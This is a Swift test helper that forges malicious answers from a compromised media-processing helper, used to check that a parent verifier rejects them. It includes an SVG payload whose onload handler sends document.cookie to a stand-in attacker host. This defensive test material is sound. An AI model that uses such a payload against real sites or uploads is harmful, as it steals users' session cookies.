import MediaPipeline
import MediaSandbox

/// Answers a taken-over helper forges for its job: each breaks one rule of the contract the parent checks
/// (`AnswerVerifier`), with every other part of the answer as a healthy helper would write it.
struct ForgedAnswers {
    let job: HelperJob

    /// Bytes that start like a WebP, a JPEG (enough for a signature check, not for a decoder).
    static let webp: [UInt8] = Array("RIFF".utf8) + [0x24, 0, 0, 0] + Array("WEBPVP8L".utf8) + [UInt8](repeating: 0, count: 32)
    static let jpeg: [UInt8] = [0xFF, 0xD8, 0xFF, 0xE0] + [UInt8](repeating: 0, count: 32)
    static let svg = Array(#"<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://evil.example/'+document.cookie)"/>"#.utf8)

    /// An accepted outcome for this job (the original comes back without bytes, as on the wire).
    func accepted(_ type: String, _ kind: AttachmentKind, originalType: String? = nil, _ artifacts: [Artifact]) -> HelperMessage {
        let original = Artifact(role: .original, contentType: originalType ?? type, bytes: [])
        return .request(job.request, .outcome(.accepted(.init(detectedType: type, kind: kind, size: job.bytes.count,
                                                              artifacts: [original] + artifacts, previewUnavailable: nil)),
                                              sniffNanoseconds: 1, transformNanoseconds: 1, residentBytes: 0))
    }

    func rejection(_ reason: RejectionReason, _ message: String) -> HelperMessage {
        .request(job.request, .outcome(.rejected(.init(reason: reason, message: message, detectedType: "text/plain",
                                                       size: job.bytes.count)),
                                       sniffNanoseconds: 1, transformNanoseconds: 1, residentBytes: 0))
    }

    func thumbnail(_ type: String = MediaType.webp, _ bytes: [UInt8] = webp, width: Int = 480, height: Int = 300) -> Artifact {
        Artifact(role: .thumbnail, contentType: type, bytes: bytes, width: width, height: height)
    }

    /// An HTML upload accepted as `image/png`: its original served as `text/html`, an SVG "thumbnail" inline.
    func htmlAsPNG() -> HelperMessage {
        accepted(MediaType.png, .image, originalType: "text/html", [thumbnail("image/svg+xml", Self.svg)])
    }

    /// A visitor's image with a `delivery` artifact (only operators' files go out to WhatsApp).
    func visitorDelivery() -> HelperMessage {
        accepted(MediaType.jpeg, .image, [thumbnail(),
                                          Artifact(role: .delivery, contentType: MediaType.jpeg, bytes: Self.jpeg,
                                                   width: 480, height: 300, sendAs: .image)])
    }

    /// A thumbnail whose bytes are WebP but whose content type is the helper's own string.
    func thumbnailContentType(_ type: String) -> HelperMessage {
        accepted(MediaType.jpeg, .image, [thumbnail(type)])
    }

    /// A thumbnail labelled WebP whose bytes are SVG.
    func thumbnailNotImage() -> HelperMessage {
        accepted(MediaType.jpeg, .image, [thumbnail(MediaType.webp, Self.svg)])
    }

    /// A thumbnail a million pixels a side.
    func hugeDimensions() -> HelperMessage {
        accepted(MediaType.jpeg, .image, [thumbnail(width: 1_000_000, height: 1_000_000)])
    }

    /// A visitor's PDF accepted with a thumbnail: the parent then reads its safe copy's pages.
    func pdfWithThumbnail() -> HelperMessage {
        accepted(MediaType.pdf, .document, [thumbnail(width: 339, height: 480)])
    }

    func pages(_ count: Int) -> HelperMessage { .request(job.request, .safeCopyPages(count)) }

    /// One page of `width` × `height` pixels on a page sized for 150 DPI (`bytes` RGB bytes, white by default).
    func page(width: Int, height: Int, bytes: Int? = nil, pixels: [UInt8]? = nil) -> HelperMessage {
        let data = pixels ?? [UInt8](repeating: 255, count: bytes ?? width * height * 3)
        return .request(job.request, .safeCopyPage(PageRaster(width: width, height: height, pointWidth: Double(width) * 72 / 150,
                                                              pointHeight: Double(height) * 72 / 150, pixels: data)))
    }

    func pagesEnd(_ why: SafeCopyUnavailable? = nil) -> HelperMessage { .request(job.request, .safeCopyEnd(why)) }

    /// The same answer under another request id.
    func withRequest(_ message: HelperMessage, _ request: RequestID) -> HelperMessage {
        guard case .request(_, let answer) = message else { return message }
        return .request(request, answer)
    }
}
